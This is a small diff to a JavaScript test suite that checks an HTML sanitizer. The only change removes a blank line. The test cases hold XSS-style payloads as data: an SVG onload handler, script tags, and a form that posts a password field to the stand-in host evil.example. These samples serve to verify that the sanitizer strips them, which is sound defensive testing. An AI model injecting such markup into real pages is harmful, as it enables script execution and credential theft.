@@ -45,7 +45,6 @@ describe('Content as HTML', () => {
     ['a drawing with a handler', '<p>Safe</p><svg onload="hacked()"><script>hacked()</script></svg>'],
     ['a form', '<p>Safe</p><form action="https://evil.example"><input name="password"></form>'],
     ['a template', '<template><script>hacked()</script></template><p>Safe</p>'],
-    
   ])('loses %s', (_what, html) => {
     const content = show(html)
     expect(content).toHaveTextContent(/^Safe$/)
